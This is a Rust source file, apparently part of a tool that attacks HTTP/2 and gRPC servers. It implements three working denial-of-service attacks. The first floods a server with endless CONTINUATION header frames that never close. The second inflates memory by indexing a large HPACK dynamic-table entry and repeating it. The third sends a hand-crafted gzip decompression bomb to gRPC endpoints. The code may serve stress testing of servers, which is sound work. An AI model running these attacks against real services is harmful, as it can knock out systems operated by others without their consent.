//! What is small on the wire and large in memory.

use std::io;

use super::calls::CALLS;
use crate::attacker::Attacker;
use crate::frames::{self, flag, frame_type};
use crate::link::{Link, Reading};
use crate::messages::EXAMPLE;

/// The largest payload of a frame.
const LARGEST_FRAME: usize = 16 * 1024;

/// Frame after frame of headers, the last of which never comes.
pub(super) fn continuation(attacker: Attacker) -> io::Result<()> {
    let mut link = Link::open(attacker.target, Reading::Fast)?;
    let mut block = Vec::new();
    while block.len() < LARGEST_FRAME - 200 {
        frames::literal(&mut block, b"x-more", &[b'x'; 100]);
    }
    let stream = link.headers(0, &frames::call_headers(EXAMPLE, &[]))?;
    loop {
        link.frame(frame_type::CONTINUATION, 0, stream, &block)?;
    }
}

/// One large field in the dynamic table, named in each byte of the headers that follow.
pub(super) fn hpack(attacker: Attacker) -> io::Result<()> {
    /// The first entry of the dynamic table.
    const NEWEST: u8 = 0x80 | 62;
    let mut link = Link::open(attacker.target, Reading::Fast)?;
    let mut first = frames::call_headers(EXAMPLE, &[]);
    frames::indexed_literal(&mut first, b"x-large", &[b'x'; 4000]);
    link.headers(flag::END_HEADERS, &first)?;
    let mut bomb = frames::call_headers(EXAMPLE, &[]);
    bomb.resize(LARGEST_FRAME, NEWEST);
    loop {
        if link.calls() < CALLS {
            link.headers(flag::END_HEADERS, &bomb)?;
        } else {
            link.rest()?;
        }
    }
}

/// Compressed messages, although nobody has agreed on compression.
pub(super) fn gzip(attacker: Attacker) -> io::Result<()> {
    let bomb = zeros(60 * 1024);
    let mut message = vec![1];
    message.extend((bomb.len() as u32).to_be_bytes());
    message.extend(bomb);
    let mut link = Link::open(attacker.target, Reading::Fast)?;
    loop {
        while link.calls() < CALLS {
            let stream = link.call(EXAMPLE, &[("grpc-encoding", "gzip")])?;
            for piece in message.chunks(8 * 1024) {
                if !link.data(stream, piece)? {
                    break;
                }
            }
        }
        link.rest()?;
    }
}

/// Returns so many bytes of a gzip file (RFC 1952) with zeros.
fn zeros(bytes: usize) -> Vec<u8> {
    // A block of fixed codes (RFC 1951, section 3.2.6), the last one: a zero, and then again and again the 258 bytes at
    // distance 1, for which the codes are 11000101 and 00000.
    let start = "110".chars().chain("00110000".chars());
    let repeat = "1100010100000".chars().cycle();
    let bits: Vec<bool> = start.chain(repeat).take(bytes * 8).map(|bit| bit == '1').collect();
    let packed = bits.chunks_exact(8).map(|byte| byte.iter().rev().fold(0, |byte, &bit| byte << 1 | u8::from(bit)));
    [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255].into_iter().chain(packed).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_begins_as_a_gzip_file_does_and_repeats_itself() {
        let bomb = zeros(1 << 10);
        // 1 (last block), 01 (fixed codes, from the lowest bit), and the code of a zero.
        assert_eq!(bomb[10] & 0b111, 0b011);
        // Eight repetitions of 13 bits fill 13 bytes.
        assert_eq!(bomb[20..33], bomb[33..46]);
    }
}
